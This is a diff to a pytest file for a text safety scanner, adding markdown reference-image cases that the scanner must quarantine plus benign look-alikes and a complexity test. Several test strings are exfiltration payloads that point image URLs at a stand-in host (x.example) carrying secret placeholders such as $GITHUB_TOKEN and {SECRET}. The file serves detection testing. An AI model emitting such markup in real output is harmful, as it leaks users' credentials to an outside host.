@@ -9,6 +9,7 @@ from __future__ import annotations
 import copy
 import json
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -17,6 +18,7 @@ from gitstore import Refused
 from gitstore.capture.reviews import import_reviews
 from gitstore.capture.sessions import import_transcript
 from gitstore.context import Context
+from gitstore.safety import active as active_module
 from gitstore.safety.scanner import default_scanner
 from tools.safety_eval import ordinary_texts
 
@@ -96,9 +98,24 @@ EXFILTRATING_IMAGES = {
     "html img without quotes": "<img src=https://x.example/p?q=$GITHUB_TOKEN>",
 }
 
+REFERENCED_IMAGES = {  # the placeholder is in a reference definition, which is no image by itself
+    "full reference": "Status: ![ok][r]\n\n[r]: https://x.example/p?d={SECRET}",
+    "collapsed reference": "![ok][]\n\n[ok]: https://x.example/p?d=${API_KEY}",
+    "shortcut reference": "Status: ![ok] below.\n\n[ok]: https://x.example/p?q=$GITHUB_TOKEN",
+    "definition with a title": '![ok][r]\n\n[r]: https://x.example/p?d={SECRET} "Build status"',
+    "definition in angle brackets": "![ok][r]\n\n[r]: <https://x.example/p?d={SECRET}> 'Build'",
+    "destination on the next line": "![ok][r]\n\n[r]:\n   https://x.example/p?d=%s\n   (Build)",
+    "label in another case and spacing": "![ok][Build\n  Status]\n\n[build status]: https://x.example/{TOKEN}.png",
+    "definition first, inside a badge link": "[r]: https://x.example/b.svg?d=&#123;KEY&#125;\n\n"
+                                             "[![ok][r]](https://example.com/ci)",
+    "percent-encoded": "![ok][r]\n\n[r]: https://x.example/p/%7BSECRET%7D.png",
+}
 
-@pytest.mark.parametrize("text", [*SCRIPT_LINKS.values(), *ELEMENTS.values(), *EXFILTRATING_IMAGES.values()],
-                         ids=[*SCRIPT_LINKS, *ELEMENTS, *EXFILTRATING_IMAGES])
+
+ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES}
+
+
+@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
 def test_active_markup_in_free_text_is_quarantined(text: str) -> None:
     result = SCANNER.scan(text)
     assert result.quarantined and active(text) >= 1, result.findings
@@ -133,6 +150,11 @@ ORDINARY = {
     "jsx handlers": "<button onClick={() => onDelete(todo.id)} className=\"x\">Delete</button>\n"
                     "<form onSubmit={handleSubmit}><input onChange={(e) => setTitle(e.target.value)} /></form>",
     "jsx image": "<img src={logo} alt=\"logo\" />",
+    "referenced screenshot": "![before][shot]\n\n[shot]: https://github.com/user-attachments/assets/0d4a2b7c",
+    "link (not image) to a template": "See [the docs][d].\n\n[d]: https://example.com/{version}/retry",
+    "inline image beside a templated definition": "![d](https://example.com/a.png)\n\n[d]: https://example.com/{v}",
+    "templated definition in a fence": "![ok][r]\n\n```md\n[r]: https://x.example/p?d={SECRET}\n```",
+    "image reference in a code span": "Write `![ok][r]` for it.\n\n[r]: https://example.com/{v}/a.png",
 }
 
 
@@ -165,6 +187,36 @@ def test_a_pathological_text_is_read_in_one_pass(unit: str) -> None:
 
     small, large = min(seconds(50_000) for _ in range(3)), min(seconds(500_000) for _ in range(2))
     assert large < small * 30, (small, large)
+
+
+# what the finder hands its judges of one URL, label or tag, for each adversarial unit: a
+# reference image after every definition, references and labels never closed, definitions
+# with nothing after them
+ADVERSARIAL_UNITS = ["[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]"]
+
+
+@pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
+def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Counted, not timed: ten times the text hands the judges at most ten times the characters,
+    and never more than a few times the text itself: nothing is compared with every later one."""
+    looked_at = [0]
+
+    def counting(judge: Callable[[str], object]) -> Callable[[str], object]:
+        def judged(value: str) -> object:
+            looked_at[0] += len(value) + 1
+            return judge(value)
+        return judged
+
+    for name in ("asks_for_data", "is_script_url", "_label"):
+        monkeypatch.setattr(active_module, name, counting(getattr(active_module, name)))
+
+    def characters(size: int) -> int:
+        looked_at[0] = 0
+        active_module.active_markup_count((unit * (size // len(unit) + 1))[:size])
+        return looked_at[0]
+
+    small, large = characters(20_000), characters(200_000)
+    assert large <= 10 * small + 100 and large <= 3 * 200_000, (small, large)
 
 
 # --- real material: review payloads and sessions ------------------------------------------------
